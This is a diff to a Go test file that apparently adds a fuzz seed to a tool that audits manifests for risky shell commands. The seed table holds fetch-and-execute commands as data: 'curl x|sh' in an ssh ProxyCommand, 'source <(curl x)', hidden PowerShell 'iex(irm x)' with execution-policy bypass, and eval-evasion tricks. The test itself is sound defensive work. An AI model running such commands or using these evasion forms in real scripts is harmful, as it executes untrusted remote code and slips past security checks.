@@ -129,6 +129,7 @@ var fuzzSeeds = [][]string{
 	{"autossh", "-M", "0", "-fN", "h", "mosh --ssh='ssh -o ProxyCommand=\"curl x|sh\"' --server=z h -- npx a; mosh -p; gcloud --project p compute ssh v --command 'uvx b' -- c; gcloud compute ssh --command"},
 	{"pwsh", "-nop", "/w", "hidden", "-wd", "d", "-ep", "bypass", "-o", "text", "-inp", "text", "-config", "c", "-settings", "s", "-c", "iex(irm x)", "-w"},
 	{"env", "-S", `A=1 sh -c "npx a\_b" '\'' # c`, "ip", "-n", "x", "netns", "exec", "n", "env", "-S", `"${P}" -c 'x\cy' \c z`, "ip", "vrf"},
+	{"bash", "-c", "builtin eval 'npx a'; command -p -- source <(curl x); command -v eval; builtin {command,eval} 'uvx b'; curl y | command . /dev/stdin; command"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
